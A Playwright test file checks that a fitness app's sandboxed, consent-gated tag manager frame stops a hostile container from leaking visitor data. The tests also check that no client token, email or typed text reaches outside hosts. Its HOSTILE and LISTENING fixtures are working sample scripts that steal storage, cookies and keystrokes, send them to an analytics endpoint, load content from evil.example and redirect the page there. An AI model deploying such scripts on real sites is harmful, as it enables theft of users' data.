import type { Page } from "@playwright/test";
import { expect, expectAccessible, onPhoneToo, test } from "./fixtures";
import { createPaidProgram, payButton, TEST_CARDS, typeCard } from "./support/money";
import { newClient } from "./support/people";

const CODE = "GTM-ABC1234";

/** What a container would try that wants to know who visits, and where: it reports what it got to Google Analytics. */
const HOSTILE = `(async () => {
  const report = (kind, found) =>
    fetch("https://www.google-analytics.com/g/collect", { method: "POST", mode: "no-cors", body: JSON.stringify({ kind, found }) });
  addEventListener("message", ({ data }) => report("heard", data));
  const found = {};
  const attempt = async (name, run) => {
    try {
      found[name] = String(await run());
    } catch {
      found[name] = "refused";
    }
  };
  const add = (tag, set) => document.head.append(Object.assign(document.createElement(tag), set));
  await attempt("the page", () => parent.document.body.innerText);
  await attempt("its address", () => top.location.href);
  await attempt("its storage", () => JSON.stringify(parent.localStorage));
  await attempt("the app's storage", () => JSON.stringify(localStorage));
  await attempt("the tab's storage", () => JSON.stringify(sessionStorage));
  await attempt("the database", () => indexedDB.open("regimen"));
  await attempt("cookies", () => document.cookie);
  await attempt("caches", () => caches.keys());
  await attempt("the service worker", () => navigator.serviceWorker.getRegistrations());
  await attempt("the server", async () => (await fetch("/api/users/me", { credentials: "include" })).text());
  await attempt("a page", async () => (await fetch("/", { mode: "no-cors", credentials: "include" })).type);
  await attempt("eval", () => eval("1"));
  await attempt("where it came from", () => document.referrer);
  await attempt("a window", () => open("https://evil.example/window"));
  await attempt("its origin", () => self.origin);
  await attempt("its own address", () => location.href);
  add("script", { src: "https://evil.example/script.js" });
  add("script", { textContent: "window.inline = true" });
  add("img", { src: "https://evil.example/picture.png" });
  add("iframe", { src: "/" });
  found["an inline script"] = String(window.inline);
  await report("tried", found);
  await report("layer", Array.from(window.dataLayer, (one) => (one.event ? one : Array.from(one))));
  parent.postMessage({ kind: "consent", granted: ["ad_storage"] }, "*");
  try {
    top.location = "https://evil.example/top";
  } catch {}
})()`;

type Report =
  | { kind: "tried" | "heard"; found: Record<string, unknown> }
  | { kind: "layer"; found: readonly unknown[] };

/** Loads the hostile container in place of the coach's. Returns what it reported, and what went to others than us. */
async function withHostileContainer(page: Page, body = HOSTILE) {
  const reports: Report[] = [];
  const asked: string[] = [];
  // What the policy of the frame blocks is a request that nobody answers.
  page.on("response", (response) => {
    const url = new URL(response.url());
    if (url.pathname === "/tag-manager/frame" || !/^(127\.0\.0\.1|localhost)$/.test(url.hostname)) asked.push(url.href);
  });
  await page.route("https://www.googletagmanager.com/**", (route) =>
    route.fulfill({ contentType: "text/javascript", body }),
  );
  await page.route("https://evil.example/**", (route) => route.fulfill({ body: "" }));
  await page.route("https://www.google-analytics.com/**", (route) => {
    reports.push(JSON.parse(route.request().postData() ?? "{}") as Report);
    return route.fulfill({ status: 204 });
  });
  const tried = () => reports.flatMap((one) => (one.kind === "tried" ? [one.found] : []));
  const events = () => reports.flatMap((one) => (one.kind === "heard" ? [[one.found.name, one.found.value]] : []));
  const layers = () => reports.flatMap((one) => (one.kind === "layer" ? [one.found] : []));
  return { reports, asked, tried, events, layers };
}

/** A container that wants what visitors type. */
const LISTENING = `(() => {
  const tell = (kind) => (event) =>
    fetch("https://www.google-analytics.com/g/collect", {
      method: "POST", mode: "no-cors", body: JSON.stringify({ kind, found: event.key ?? event.clipboardData?.getData("text") ?? "" }),
    });
  for (const kind of ["keydown", "paste", "input"]) addEventListener(kind, tell(kind), true);
  setInterval(() => { window.focus(); document.body.tabIndex = 0; document.body.focus(); }, 5);
})()`;

const NOTHING = {
  "the page": "refused",
  "its address": "refused",
  "its storage": "refused",
  "the app's storage": "refused",
  "the tab's storage": "refused",
  "the database": "refused",
  cookies: "refused",
  caches: "refused",
  "the service worker": "refused",
  "the server": "refused",
  "a page": "refused",
  eval: "refused",
  "where it came from": "",
  "a window": "null",
  "its origin": "null",
  "an inline script": "undefined",
};

test(
  "[WLB-12] a hostile container reads nothing of visitors or clients, and nothing is loaded before they allow it",
  onPhoneToo,
  async ({ page, request, baseURL, allowErrors }) => {
    // What the browser says when it refuses the container something.
    allowErrors("Content Security Policy", "sandbox", "Blocked", "evil.example", "Failed to load resource");
    const { coach, programId } = await createPaidProgram(request, { prices: { monthly: 3900, quarterly: 9950 } });
    const setting = { version: 0, code: CODE, enabled: true };
    await request.put("/api/coach/tag-manager", { headers: coach.headers, data: setting });
    const maya = await newClient(request);
    const container = await withHostileContainer(page);
    const bar = page.getByRole("region", { name: "Cookie settings" });
    const frames = page.locator('iframe[src="/tag-manager/frame"]');
    const openPage = async () => {
      await page.goto(`/p/${programId}?code=SECRET50&utm_source=letter`);
      await expect(page.getByRole("heading", { name: "Squat Every Day", level: 1 })).toBeVisible();
    };
    const openSettings = () => page.getByRole("contentinfo").getByRole("button", { name: "Cookie settings" }).click();
    const address = new URL("/tag-manager/frame", baseURL);

    await test.step("before anybody chose, and after declining, nothing is asked of anybody", async () => {
      await openPage();
      await expect(bar).toContainText("would like to measure visits and sales here");
      await expectAccessible(page);
      await bar.getByRole("button", { name: "Decline" }).click();
      await expect(bar).toBeHidden();
      await page.getByRole("radio", { name: /Every 3 months/ }).check();
      await openPage();
      await expect(page.getByRole("button", { name: "Share" })).toBeVisible();
      await expect(bar).toBeHidden();
      expect(container.asked).toEqual([]);
    });

    await test.step("a visitor allows marketing: the container is told what is for sale, and reads nothing", async () => {
      await openSettings();
      await page.getByRole("switch", { name: /^Marketing/ }).check();
      await page.getByRole("button", { name: "Save", exact: true }).click();
      await expect.poll(container.layers).toHaveLength(1);
      expect(container.tried()).toEqual([{ ...NOTHING, "its own address": address.href }]);
      const ads = { ad_storage: "granted", ad_user_data: "granted", ad_personalization: "granted" };
      const rest = {
        analytics_storage: "denied",
        functionality_storage: "denied",
        personalization_storage: "denied",
      };
      const denied = { ad_storage: "denied", ad_user_data: "denied", ad_personalization: "denied" };
      expect(container.layers()[0]?.slice(0, 2)).toEqual([
        ["consent", "default", { ...denied, ...rest }],
        ["consent", "update", { ...ads, ...rest }],
      ]);
      await page.getByRole("radio", { name: /Every 3 months/ }).check();
      await expect.poll(container.events).toEqual([["select_item", 99.5]]);
    });

    await test.step("withdrawing removes it", async () => {
      await expect(frames).toHaveCount(1);
      await openSettings();
      await page.getByRole("button", { name: "Only necessary" }).click();
      await expect(frames).toHaveCount(0);
    });

    await test.step("a client who is signed in allows it on the page: it reads nothing either", async () => {
      await page.evaluate((stored) => {
        localStorage.clear();
        localStorage.setItem("regimen.session", stored);
      }, maya.session);
      await openPage();
      await bar.getByRole("button", { name: "Allow" }).click();
      await expect.poll(container.layers).toHaveLength(2);
      expect(container.tried()[1]).toEqual({ ...NOTHING, "its own address": address.href });
    });

    await test.step("it is gone at the checkout, and told of the sale once there is no form any more", async () => {
      await page.getByRole("button", { name: "Subscribe" }).filter({ visible: true }).first().click();
      await expect(page).toHaveURL(/\/purchase/);
      await expect.poll(container.events).toContainEqual(["begin_checkout", 39]);
      await typeCard(page, TEST_CARDS.succeeds);
      await expect(frames).toHaveCount(0);
      await payButton(page).click();
      await expect(page.getByRole("heading", { name: "You're in" })).toBeVisible();
      await expect.poll(container.layers).toHaveLength(3);
      expect(JSON.stringify(container.layers()[2])).toContain('"event":"purchase"');
    });

    const all = JSON.stringify(container.reports);
    const token = (JSON.parse(maya.session) as { token: string }).token;
    for (const secret of [token, maya.email, "SECRET50", "letter", "Maya", "Kowalczyk", "/p/", "/user/"]) {
      expect(all).not.toContain(secret);
    }
    expect(new Set(container.asked.map((url) => new URL(url).host))).toEqual(
      new Set([address.host, "www.googletagmanager.com", "www.google-analytics.com"]),
    );
  },
);

test("[WLB-12] a container that listens to the keyboard hears nothing", onPhoneToo, async ({ page, request }) => {
  const { coach, programId } = await createPaidProgram(request, { prices: { monthly: 3900 } });
  const setting = { version: 0, code: CODE, enabled: true };
  await request.put("/api/coach/tag-manager", { headers: coach.headers, data: setting });
  const container = await withHostileContainer(page, LISTENING);
  await page.goto(`/p/${programId}`);
  await page.getByRole("button", { name: "Allow" }).click();
  await expect.poll(() => container.asked).toContainEqual(expect.stringContaining("gtm.js"));
  await page.getByRole("button", { name: "Ask a question" }).first().click();
  const field = page.getByRole("dialog").getByRole("textbox").last();
  await field.pressSequentially("My knee hurts since March", { delay: 20 });
  await expect(field).toHaveValue("My knee hurts since March");
  expect(container.reports).toEqual([]);
});
